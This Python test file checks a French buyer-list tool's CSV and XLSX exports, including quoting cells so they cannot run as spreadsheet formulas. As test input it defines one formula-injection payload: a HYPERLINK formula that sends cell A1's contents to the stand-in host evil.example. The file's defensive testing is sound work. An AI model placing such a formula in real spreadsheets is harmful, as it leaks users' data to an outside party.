"""Verdicts and the template as CSV and XLSX (issue 8 "Upload"), safe against formula injection."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from studies.columns import Column
from studies.exports import (
    spreadsheet_safe,
    template_csv,
    template_xlsx,
    verdicts_csv,
    verdicts_xlsx,
)
from studies.parsing import read_buyer_list
from studies.verdicts import LineVerdict, line_verdicts

D = Decimal
INJECTION = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")'


def verdicts_of(text: str) -> list[LineVerdict]:
    parsed = read_buyer_list(content=text.encode("utf-8"), filename="etude.csv")
    return line_verdicts(lines=parsed.lines, top_up_multiple=D(2), headers=parsed.headers)


# As a spreadsheet writes it in a CSV cell: quoted, with its quotes doubled.
QUOTED = '"' + INJECTION.replace('"', '""') + '"'
MESSY = verdicts_of(
    "SIREN;Raison sociale;Encours;Limite primaire;Top-up demandé\n"
    "552 100 554;Martin;100 000,50;40 000;40 000\n"
    f"732829320;{QUOTED};1 000;abc;\n"
)


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with its BOM
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_verdicts_csv_has_a_bom_semicolons_and_french_decimals() -> None:
    header, accepted, refused = csv_rows(verdicts_csv(MESSY))

    assert header[:2] == ["Ligne", "Verdict"] and header[-1] == "Erreurs"
    assert accepted[:7] == [
        "2",
        "Accepté",
        "552 100 554",
        "Martin",
        "100000,50",
        "40000,00",
        "40000,00",
    ]
    assert accepted[7:] == ["552100554", ""]
    assert refused[1] == "Refusé" and refused[5] == "abc"  # a cell that is not a number, as typed
    assert refused[-1].startswith("Ligne 3, colonne « Limite primaire » :")


def test_a_formula_in_a_name_is_quoted_in_the_csv() -> None:
    _header, _accepted, refused = csv_rows(verdicts_csv(MESSY))

    assert refused[3] == "'" + INJECTION


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_every_formula_start_gets_a_quote(start: str) -> None:
    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"


def test_plain_text_is_left_alone() -> None:
    assert spreadsheet_safe("Société Générale") == "Société Générale"


def test_a_formula_in_a_name_is_a_string_in_the_xlsx_never_a_formula() -> None:
    content = verdicts_xlsx(MESSY)

    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    name = sheet.cell(row=3, column=4)
    assert (name.value, name.data_type) == (INJECTION, "s")
    assert name.quotePrefix


def test_the_verdicts_xlsx_writes_amounts_as_numbers() -> None:
    sheet = load_workbook(io.BytesIO(verdicts_xlsx(MESSY))).worksheets[0]

    assert sheet.cell(row=2, column=5).value == 100000.5
    assert sheet.cell(row=2, column=5).number_format == "#,##0.00"
    assert sheet.cell(row=3, column=6).value == "abc"


@pytest.mark.parametrize("export", [verdicts_csv, verdicts_xlsx])
def test_a_corrected_verdicts_file_can_be_uploaded_again(
    export: Callable[[list[LineVerdict]], bytes],
) -> None:
    content = export(MESSY)
    parsed = read_buyer_list(content=content, filename="verdicts")

    assert [line.name for line in parsed.lines] == ["Martin", INJECTION]
    assert parsed.lines[0].exposure == D("100000.50")


@pytest.mark.parametrize(
    ("template", "filename"), [(template_csv, "t.csv"), (template_xlsx, "t.xlsx")]
)
def test_the_template_has_french_headers_and_an_accepted_example_line(
    template: Callable[[], bytes], filename: str
) -> None:
    parsed = read_buyer_list(content=template(), filename=filename)

    assert parsed.headers[Column.NAME] == "Raison sociale"
    assert set(parsed.headers) == set(Column)
    (result,) = line_verdicts(lines=parsed.lines, top_up_multiple=D(2))
    assert result.accepted
    assert (result.line.exposure, result.line.primary, result.line.top_up) == (
        D("100000"),
        D("40000"),
        D("40000"),
    )
